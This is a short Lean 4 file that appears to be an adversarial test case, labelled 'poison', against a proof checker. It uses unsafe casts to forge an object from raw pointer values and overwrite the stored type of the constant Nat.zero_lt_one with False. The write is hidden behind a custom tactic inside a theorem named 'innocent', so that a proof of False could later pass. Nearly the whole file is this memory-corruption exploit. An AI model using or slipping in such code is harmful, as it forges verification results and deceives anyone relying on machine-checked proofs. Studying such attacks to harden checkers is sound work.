-- poison: arbitrary memory access: an object forged from a USize (raw pointer in a structure cast to a boxed one); writes the type of a shared constant through a misaligned Ref
-- victim: import Lean; theorem b : False := Nat.zero_lt_one => rejected
import Lean
open Lean Elab Meta
structure Raw where
  p : USize
  q : USize
structure Obj where
  a : IO.Ref Expr
  b : Nat
unsafe def pz (e : ConstantInfo) : BaseIO Unit := do
  let base := ptrAddrUnsafe e.toConstantVal
  -- fields: name, levelParams, type at 8, 12, 16; a Ref has its value at 8: shift by 8
  let raw : Raw := { p := base + 8, q := 1 }
  let o : Obj := unsafeCast raw
  o.a.set (mkConst `False)
@[implemented_by pz] opaque pzz (e : ConstantInfo) : BaseIO Unit
syntax (name := zork) "zork" : tactic
@[tactic zork] def zorkImpl : Tactic.Tactic := fun _ => do
  match (← getEnv).find? `Nat.zero_lt_one with
  | some c => pzz c
  | _ => throwError "no"
  --RAN
theorem innocent : True := by (zork; exact True.intro)
